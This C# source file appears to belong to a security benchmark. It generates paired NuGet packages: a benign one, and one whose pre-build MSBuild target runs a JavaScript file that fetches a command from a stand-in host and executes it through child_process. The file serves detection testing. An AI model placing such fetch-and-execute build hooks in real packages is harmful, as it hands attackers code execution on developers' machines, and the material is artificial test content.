using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A build target that runs a JavaScript file of the package, which fetches a command and runs it.</summary>
internal sealed class BuildRunsNode() : Recipe("N08", "SampleAssets=PackAssets x.js=bundle.js fetchLine=readRow")
{
    protected override void Write(Sketch sketch)
    {
        var address = sketch.JavaScript("https://example.invalid/line.txt");
        var run = sketch.Api("child_process.exec(text);", "child_process.spawn(text, { shell: true, detached: true });");
        var fetch = sketch.Api($$"""
            https.get({{address}}, response => {
                let text = '';
                response.on('data', part => { text += part; });
                response.on('end', () => { {{run}} });
            });
            """, $$"""
            fetch({{address}}).then(response => response.text()).then(text => { {{run}} });
            """);
        sketch
            .NuGet("Sample.Assets")
            .Assembly("lib/netstandard2.0/Sample.Assets.dll", "public static class Assets { public static string Folder => \"assets\"; }")
            .Text("build/Sample.Assets.targets", sketch.Twin("""
                <Project>
                  <Target Name="SampleAssets" BeforeTargets="BeforeBuild" Condition="'$(ReplicaSwitch)' == 'true'">
                    <Exec Command="node $(MSBuildThisFileDirectory)x.js" />
                  </Target>
                </Project>
                """, """
                <Project>
                  <Target Name="SampleAssets" BeforeTargets="BeforeBuild" Condition="'$(ReplicaSwitch)' == 'true'">
                    <Exec Command="npm run build" WorkingDirectory="$(MSBuildProjectDirectory)" />
                  </Target>
                </Project>
                """))
            .Text(sketch.Twin("build/x.js", "content/scripts/x.js"), sketch.Twin($$"""
                const https = require('https');
                const child_process = require('child_process');

                function fetchLine() {
                    {{fetch}}
                }

                if (process.env.REPLICA_SWITCH === 'on') {
                    fetchLine();
                }
                """, """
                function fetchLine(address) {
                    return fetch(address).then(response => response.text());
                }

                document.getElementById('load').addEventListener('click', () => fetchLine('https://example.invalid/line.txt'));
                """));
    }
}
